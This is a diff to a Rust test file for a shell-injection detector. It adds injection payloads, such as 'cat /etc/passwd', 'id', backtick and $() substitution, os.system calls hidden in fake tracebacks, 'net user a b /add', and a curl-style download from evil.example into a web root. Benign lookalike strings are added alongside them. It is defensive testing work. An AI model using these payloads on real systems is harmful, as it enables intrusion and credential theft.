@@ -3,6 +3,41 @@ use super::super::tests::{check_table, confidence};
 use super::super::{Context, Detector, Place};
 
 const ATTACKS: &[&str] = &[
+    "x;w`u`h`u`o`u`a`u`m`u`i;",
+    "127.0.0.1$(ps aux)",
+    "||$(ps aux)||x",
+    "127.0.0.1|expr 69529 + 75582",
+    "x$(id>a)",
+    "-o /var/www/html/a.php http://evil.example/a.txt",
+    "x;cat /etc/passwd\n|a |b |\n|c |d |",
+    "|cat /etc/passwd |\nx",
+    "|id|\n;cat /etc/passwd",
+    "$x=qx{id}",
+    "print qx/cat flag.txt/",
+    "a%x[cat flag]",
+    "127.0.0.1|set",
+    "x&lt;cat /etc/passwd",
+    "http://his.local/s?q=1 | cat /etc/passwd 结果多一行",
+    r#"{"host":"127.0.0.1;cat /etc/passwd","n":1}"#,
+    r"'File \x22a\x22, line 1, in f\n'+os.system('id')",
+    "'File \\\"a.py\\\", line 1, in f\\n';os.system('id')",
+    "f'File \\\"a.py\\\", line 1, in f\\n {os.system(1)}'",
+    "a&copy c:\\x d:\\y&",
+    "1;cp a /app",
+    "see /a/b;id;",
+    "x;cat a https://a.cn >/tmp/x",
+    "127.0.0.1;node -v",
+    "x;curl https://a.cn/x.html",
+    "8.8.8.8\nip -o link",
+    ";ip -br addr",
+    "import os,pty;s=1",
+    "File \"/app/x.py\", line 3, in f\n\n__import__('os').system('id')",
+    "x = 1\nFile \"/app/x.py\", line 3, in f\n    pass\nos.system('id')",
+    "'''\n  File \"/app/x.py\", line 3, in f\n''';os.system('id')",
+    "\"\\\n  File \"/app/x.py\", line 3, in f\n\";os.system('id')",
+    "127.0.0.1; find / replace",
+    "张三丰; net stop spooler & net user a b /add",
+    "网络不通; ping 1.1.1.1 & cat /etc/passwd",
     "--config=core.sshCommand=touch /tmp/x",
     ";cat /etc/passwd",
     "127.0.0.1;id",
@@ -121,9 +156,43 @@ const ATTACKS: &[&str] = &[
     "IO.popen('id').read",
     "%x(id)",
     "powershell C:\\windows\\system32\\notepad.exe",
+    "/usr/bin/id",
+    "/sbin/ifconfig",
+    "C:\\Windows\\System32\\cmd.exe",
+    "/usr/bin/sudo /usr/bin/id",
+    "/bin/df -h",
+    "/bin/c\"\"at",
+    "/bin/cat</etc/passwd",
 ];
 
 const HONEST: &[&str] = &[
+    "`a`和`b`的区别",
+    "-o /tmp/a",
+    "ps aux",
+    "用 expr 1 + 2 计算",
+    "-o 输出 http://www.example.org/",
+    "|cd /          |切换到根目录    |\n|--------------+----------------|\n|cd ..         |上一级          |",
+    "while 条件 ; do command ; done",
+    "data:image/png;base64,iVBOR+qx/iU5Hi3Rvy/nN2x",
+    "data:image/png;base64,iVBOR qx/UwFLnS7N247/x5RJ",
+    "Q7Kp|w$DXeSEliT0",
+    "m%X[j97rMm89L]82b",
+    "edit port1\n set ip 10.1.1.1 255.255.255.0\n",
+    "http://his.local/s?q=ls -l | wc -l 结果多一行",
+    r#"{"rows":[{"id":"1","text":"Kill the noise; sort it out","day":"2026-10-27"}],"total":1}"#,
+    r#"{"rows":[{"text":"it didn't work; echo what Tom said","day":"2026-10-27"}],"total":1}"#,
+    r#"{"message":"Traceback (most recent call last):\n  File \"/app/a.py\", line 3, in start\n    subprocess.run(args, check=True)\nFileNotFoundError"}"#,
+    "<message>Traceback (most recent call last):\n  File &quot;/app/x.py&quot;, line 1, in &lt;module&gt;\n    import os; import foo\nModuleNotFoundError</message>",
+    "FROM alpine\nRUN apk add --no-cache curl\nCOPY . /app",
+    "Bring: salad / dessert; date & time TBC",
+    "see the cat; more details at https://a.cn/x.html",
+    "interface GigabitEthernet0/0/1\n ip address 10.1.1.1 255.255.255.0\n#",
+    "ip routing\nip domain-name his.local\nip name-server 10.1.1.53",
+    "Host jump\n  HostName 10.0.0.9",
+    "import os, sys",
+    "Traceback (most recent call last):\n  File \"/app/x.py\", line 3, in <module>\n    import os; import foo\nModuleNotFoundError: No module named 'foo'",
+    "Traceback (most recent call last):\n  File \"/app/a.py\", line 9, in main\n    run(cmd)\n  File \"/app/b.py\", line 3, in run\n    subprocess.run(cmd, check=True)\nFileNotFoundError: [Errno 2]",
+    "打印机报 0x0000011b; 已执行 net stop spooler & net start spooler",
     "升级步骤: cd /opt/his && ./stop.sh; cp his.jar his.jar.bak; ./start.sh; 观察 5 分钟",
     "ls -l | grep txt | wc -l 的含义",
     "ping 127.0.0.1 -n 4; ipconfig /all; netstat -an 分别的作用",
@@ -216,6 +285,13 @@ const HONEST: &[&str] = &[
     "java -jar app.jar",
     "<p>more</p>;<b>less</b>",
     "1、清洗;2、消毒;3、sleep",
+    "/usr/bin/ssh",
+    "/bin/ping6",
+    "/bin/df",
+    "/bin/bash",
+    "/usr/bin/php",
+    "/usr/bin/sudo /usr/bin/rsync",
+    "C:\\Windows\\System32\\tar.exe",
 ];
 
 #[test]
@@ -247,12 +323,26 @@ fn prose_about_commands_does_not_block() {
 }
 
 #[test]
-fn code_marked_with_backticks_in_a_sentence_does_not_block() {
-    for value in ["performance when running `find /` on it", "run `python3 gen.py` first", "请执行 `ls -la` 查看"]
-    {
+fn code_in_a_sentence_does_not_block() {
+    for value in [
+        "performance when running `find /` on it",
+        "run `python3 gen.py` first",
+        "请执行 `ls -la` 查看",
+        "Env: Ubuntu 20.04; node -v 18; npm -v 9",
+        "Kill the noise; find / replace; sort it out",
+    ] {
         let sure = confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value));
         assert!(sure < 80, "{sure} for {value}");
     }
+}
+
+#[test]
+fn an_entity_in_a_body_of_markup_separates_no_commands() {
+    let of = |value: &str| confidence(Detector::Shell, value.as_bytes(), Context::of(Place::BodyText));
+    assert!(of("<t>edit &quot;port1&quot;\n set ip 10.1.1.1 255.255.255.0</t>") < 80);
+    assert!(of("<t>edit port1;\n cat /etc/passwd</t>") >= 80);
+    assert!(of("<t>&lt;&lt; ;cat /etc/passwd</t>") >= 80);
+    assert!(of("a=&lt;cat /etc/passwd") >= 80, "no markup");
 }
 
 #[test]
@@ -311,4 +401,14 @@ fn shell_findings_meet_the_requirement_in_linear_work() {
             "=",
         ],
     );
+}
+
+#[test]
+fn a_segment_is_read_without_the_suffix_of_a_page() {
+    for attack in ["/d/127.0.0.1 | whoami.html", "/d/127.0.0.1;id.php"] {
+        assert!(confidence(Detector::Shell, attack.as_bytes(), Context::of(Place::Path)) >= 80, "{attack}");
+    }
+    for honest in ["/d/a | b.html", "/d/R&D.html"] {
+        assert!(confidence(Detector::Shell, honest.as_bytes(), Context::of(Place::Path)) < 80, "{honest}");
+    }
 }
